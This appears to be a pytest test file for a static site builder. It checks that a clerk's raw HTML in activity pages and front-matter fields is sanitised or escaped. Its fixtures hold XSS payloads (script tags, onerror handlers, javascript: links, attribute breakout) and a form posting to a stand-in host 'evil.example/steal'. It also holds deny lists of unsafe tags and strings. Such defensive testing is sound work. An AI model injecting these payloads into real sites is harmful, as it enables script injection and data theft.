"""A clerk's raw HTML never reaches the published page; the text around it does."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import STATION_DIR, Element, build_site, entry_article, make_county, parse_html

from site_plugins.content import load_catalogue

ACTIVITY = f"{STATION_DIR}/activities/2026-06-19-anquan.md"
PAGE = "stations/qingshi/zhangzhuang/activities/2026-06-19-anquan/index.html"

# Line 1 is the opening ---; the first unsafe markup, <script>, is on line 12, column 1.
# Frames and objects load local paths here: one from another host is refused outright
# (EXTERNAL_RESOURCE, see test_hostile.py); this file is about what the sanitiser removes.
UNSAFE_ACTIVITY = """\
---
title: 安全测试活动
date: 2026-06-19
team: culture
volunteers: 8
beneficiaries: 60
photos: [media/scene-1.jpg]
---

开头的正文段落。

<script>alert(1)</script>

图片前文字<img src=x onerror=alert(1)>图片后文字

链接前文字[点这里](javascript:alert(1))链接后文字

<iframe src="evil.example/frame"></iframe>

<form action="https://evil.example/steal"><input name="q" value="表单值"></form>

<object data="evil.example/x.swf">对象内文字</object>

<style>body{display:none}</style>

<p style="position:fixed;top:0">固定段落文字</p>

结尾的正文段落。
"""

HARMLESS = [
    "开头的正文段落。",
    "图片前文字",
    "图片后文字",
    "链接前文字",
    "点这里",
    "链接后文字",
    "固定段落文字",
    "结尾的正文段落。",
]
GONE_TAGS = {"script", "iframe", "form", "input", "object", "embed", "style"}
GONE_TEXT = ["alert(", "javascript:", "evil.example", "onerror", "position:fixed", "display:none"]


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """The county with the unsafe activity built (not strict: UNSAFE_HTML is a warning)."""
    project = make_county(tmp_path_factory.mktemp("unsafe"), {ACTIVITY: UNSAFE_ACTIVITY})
    result = build_site(project)
    assert result.returncode == 0, result.stderr
    return project, result.stderr


def article_of(project: Path) -> tuple[str, Element]:
    html = (project / "site" / PAGE).read_text(encoding="utf-8")
    article = entry_article(parse_html(html))
    start = html.index('<article class="wm-entry')
    return html[start : html.index("</article>", start)], article


def test_unsafe_markup_is_removed(built: tuple[Path, str]) -> None:
    raw, article = article_of(built[0])
    assert sorted({e.tag for e in article.iter()} & GONE_TAGS) == []
    for element in article.iter():
        assert [a for a in element.attrs if a.startswith("on") or a == "style"] == []
        for name in ("href", "src"):
            assert not element.attrs.get(name, "").strip().lower().startswith("javascript")
    assert [t for t in GONE_TEXT if t in raw] == []
    assert "body{" not in raw


def test_harmless_text_around_it_survives(built: tuple[Path, str]) -> None:
    _, article = article_of(built[0])
    body = article.find("div", "wm-body")
    text = body.text()
    assert [t for t in HARMLESS if t not in text] == []
    # The link keeps its words, only its target goes.
    links = [a for a in body.find_all("a") if a.text() == "点这里"]
    assert len(links) == 1
    assert "href" not in links[0].attrs


def test_nothing_unsafe_anywhere_in_the_site(built: tuple[Path, str]) -> None:
    site = built[0] / "site"
    leaks = [
        p.relative_to(site).as_posix()
        for p in site.rglob("*")
        if p.suffix in (".html", ".json", ".xml")
        and any(t in p.read_text(encoding="utf-8") for t in ("evil.example", "alert(1)"))
    ]
    assert leaks == []


FIELD_MARKUP_ACTIVITY = """\
---
title: 义诊<img src=x onerror=alert(1)>进村
date: 2026-06-19
team: culture
location: <script>alert(2)</script>
tags: ["<b onclick=alert(3)>标签</b>"]
photos:
  - file: media/scene-1.jpg
    caption: '"><script>alert(4)</script>'
---

正文。
"""


def test_markup_in_front_matter_fields_never_becomes_markup(tmp_path: Path) -> None:
    """Titles, places, tags and captions are text: shown escaped, or the file is refused."""
    project = make_county(tmp_path, {ACTIVITY: FIELD_MARKUP_ACTIVITY})
    result = build_site(project)
    if result.returncode != 0:
        # Refusing the file is fine too, as long as the clerk is told which file.
        assert f"content/{ACTIVITY}:" in result.stderr
        return
    page = parse_html((project / "site" / PAGE).read_text(encoding="utf-8"))
    injected = [
        f"<{e.tag} {sorted(e.attrs)}>"
        for e in page.iter()
        if any(a.startswith("on") for a in e.attrs)
        or (e.tag == "script" and "alert(" in e.text())
        or (e.tag == "img" and e.attrs.get("src") == "x")
    ]
    assert injected == []


def test_validator_warns_at_the_first_unsafe_line(
    built: tuple[Path, str], county_factory: Callable[..., Path]
) -> None:
    content = county_factory({ACTIVITY: UNSAFE_ACTIVITY}) / "content"
    catalogue = load_catalogue(content)
    assert catalogue.errors == ()
    unsafe = [(p.path, p.line, p.col) for p in catalogue.warnings if p.code == "UNSAFE_HTML"]
    assert unsafe == [(f"content/{ACTIVITY}", 12, 1)]
    # The build log shows the same located warning.
    assert f"content/{ACTIVITY}:12:1  UNSAFE_HTML" in built[1]
